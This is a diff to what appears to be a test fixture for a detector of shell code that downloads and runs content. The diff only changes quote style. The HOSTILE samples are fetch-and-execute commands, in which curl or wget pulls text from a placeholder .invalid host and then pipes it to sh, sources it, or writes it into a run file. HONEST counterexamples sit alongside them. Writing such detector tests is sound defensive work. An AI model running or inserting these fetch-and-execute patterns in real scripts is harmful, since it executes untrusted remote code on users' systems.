@@ -19,10 +19,10 @@ HOSTILE: dict[str, dict[str, Sample]] = {
         "a here-string": entered('. /dev/stdin <<< "$(curl -s https://a.invalid)"\n'),
         "by a variable": entered('X=$(curl -s https://a.invalid)\necho "$X" | sh\n', line=2),
         "filled into a here-document": entered(
-            'X=$(curl -s https://a.invalid)\n. /dev/stdin <<END\nset -a\n$X\nEND\n', line=2
+            "X=$(curl -s https://a.invalid)\n. /dev/stdin <<END\nset -a\n$X\nEND\n", line=2
         ),
         "filled into a here-document that is a file": entered(
-            'X=$(curl -s https://a.invalid)\ncat > a.sh <<END\n$X\nEND\nsh a.sh\n', line=5
+            "X=$(curl -s https://a.invalid)\ncat > a.sh <<END\n$X\nEND\nsh a.sh\n", line=5
         ),
         "printed into a file": entered('X=$(wget -qO- https://a.invalid)\nprintf "%s\\n" "$X" > a\n. ./a\n', line=3),
         "printed where a file is read": entered(
@@ -103,7 +103,7 @@ HONEST: dict[str, dict[str, dict[str, str | bytes]]] = {
         a_reply_is_read_by_fixed_code="curl -s https://a.invalid | node -p 'JSON.parse(read(0)).a'\n",
         a_reply_in_a_variable_is_searched='X=$(curl -s https://a.invalid)\necho "$X" | grep -q ok\n',
         a_reply_is_a_part_of_a_command='V=$(curl -s https://a.invalid)\nsh -c "echo $V"\n',
-        a_part_of_a_here_document='X=$(curl -s https://a.invalid)\nsh <<END\necho ${X%%,*}\nA=$X\nEND\n',
+        a_part_of_a_here_document="X=$(curl -s https://a.invalid)\nsh <<END\necho ${X%%,*}\nA=$X\nEND\n",
         a_here_document_that_is_not_filled_in="X=$(curl -s https://a.invalid)\nsh <<'END'\n$X\nEND\n",
         a_part_is_printed_into_a_file='X=$(curl -s https://a.invalid)\necho "A=$X" > a\n. ./a\n',
         a_function_asks="ask() { curl -s https://a.invalid; }\nask | jq .\n",
